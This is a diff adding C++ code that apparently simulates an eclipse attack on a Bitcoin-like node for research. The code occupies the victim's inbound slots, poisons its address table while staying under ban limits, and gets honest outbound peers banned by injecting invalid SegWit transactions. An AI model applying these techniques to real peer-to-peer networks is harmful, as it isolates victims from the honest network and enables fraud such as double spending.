@@ -1,0 +1,120 @@
+#include "attack/eclipse.hpp"
+
+namespace bsattack {
+
+EclipseAttack::EclipseAttack(AttackerNode& attacker, bsnet::Node& victim,
+                             std::vector<bsnet::Node*> infrastructure,
+                             EclipseConfig config)
+    : attacker_(attacker),
+      victim_(victim),
+      infrastructure_(std::move(infrastructure)),
+      config_(config),
+      crafter_(victim.Config().chain, 0xec11) {
+  attacker_ips_.insert(attacker_.Ip());
+  for (const bsnet::Node* node : infrastructure_) attacker_ips_.insert(node->Ip());
+}
+
+bool EclipseAttack::IsAttackerIp(std::uint32_t ip) const {
+  return attacker_ips_.contains(ip);
+}
+
+void EclipseAttack::Start() {
+  running_ = true;
+  OccupyInboundSlots();
+  // Poisoning rides on the first inbound session once it is usable.
+  attacker_.Sched().After(bsim::kSecond, [this]() { PoisonAddrTable(); });
+  if (config_.defame_outbound) {
+    attacker_.Sched().After(2 * bsim::kSecond, [this]() { DefamationTick(); });
+  }
+}
+
+void EclipseAttack::OccupyInboundSlots() {
+  const bsproto::Endpoint target{victim_.Ip(), victim_.Config().listen_port};
+  for (int i = 0; i < config_.inbound_sessions; ++i) {
+    inbound_sessions_.push_back(attacker_.OpenSession(target));
+  }
+}
+
+void EclipseAttack::PoisonAddrTable() {
+  if (!running_) return;
+  AttackSession* usable = nullptr;
+  for (AttackSession* session : inbound_sessions_) {
+    if (!session->closed && session->SessionReady()) {
+      usable = session;
+      break;
+    }
+  }
+  if (usable == nullptr) {
+    attacker_.Sched().After(bsim::kSecond, [this]() { PoisonAddrTable(); });
+    return;
+  }
+
+  // Each round gossips the infrastructure's listen endpoints (repeated to
+  // fill the message) — all under the 1000-entry rule, so no ban score.
+  for (int round = 0; round < config_.addr_gossip_rounds; ++round) {
+    bsproto::AddrMsg msg;
+    msg.addresses.reserve(config_.addrs_per_message);
+    for (std::size_t i = 0; i < config_.addrs_per_message; ++i) {
+      const bsnet::Node* node = infrastructure_[i % infrastructure_.size()];
+      bsproto::TimedNetAddr rec;
+      rec.time = static_cast<std::uint32_t>(attacker_.Sched().Now() / bsim::kSecond);
+      rec.addr.services = bsproto::kNodeNetwork;
+      rec.addr.endpoint = {node->Ip(), node->Config().listen_port};
+      msg.addresses.push_back(rec);
+    }
+    attacker_.Send(*usable, msg);
+    addr_entries_sent_ += msg.addresses.size();
+  }
+}
+
+void EclipseAttack::DefamationTick() {
+  if (!running_) return;
+  // Pick one honest outbound peer of the victim and defame it (Algorithm 1:
+  // the attacker learns the 4-tuple by sniffing; we read it off the victim's
+  // connection state the same way).
+  for (const bsnet::Peer* peer : victim_.Peers()) {
+    if (peer->inbound || !peer->HandshakeComplete()) continue;
+    if (IsAttackerIp(peer->remote.ip)) continue;  // already ours
+    if (victim_.Bans().IsBanned(peer->remote, attacker_.Sched().Now())) continue;
+
+    auto defamation = std::make_unique<PostConnectionDefamation>(
+        attacker_, peer->conn->Local(), peer->remote);
+    defamation->Arm({bsproto::EncodeMessage(attacker_.Magic(),
+                                            crafter_.SegwitInvalidTx())});
+    defamations_.push_back(std::move(defamation));
+    ++defamed_;
+    break;  // one eviction per tick keeps the reconnect churn plausible
+  }
+  attacker_.Sched().After(config_.defame_interval, [this]() { DefamationTick(); });
+}
+
+double EclipseAttack::ControlFraction() const {
+  std::size_t total = 0;
+  std::size_t controlled = 0;
+  for (const bsnet::Peer* peer : victim_.Peers()) {
+    if (!peer->HandshakeComplete()) continue;
+    ++total;
+    controlled += IsAttackerIp(peer->remote.ip) ? 1 : 0;
+  }
+  return total == 0 ? 0.0 : static_cast<double>(controlled) / static_cast<double>(total);
+}
+
+bool EclipseAttack::FullyEclipsed() const {
+  bool any = false;
+  for (const bsnet::Peer* peer : victim_.Peers()) {
+    if (!peer->HandshakeComplete()) continue;
+    any = true;
+    if (!IsAttackerIp(peer->remote.ip)) return false;
+  }
+  return any;
+}
+
+int EclipseAttack::InboundSessionsHeld() const {
+  int held = 0;
+  for (const AttackSession* session : inbound_sessions_) {
+    held += (!session->closed && session->SessionReady()) ? 1 : 0;
+  }
+  return held;
+}
+
+}  // namespace bsattack
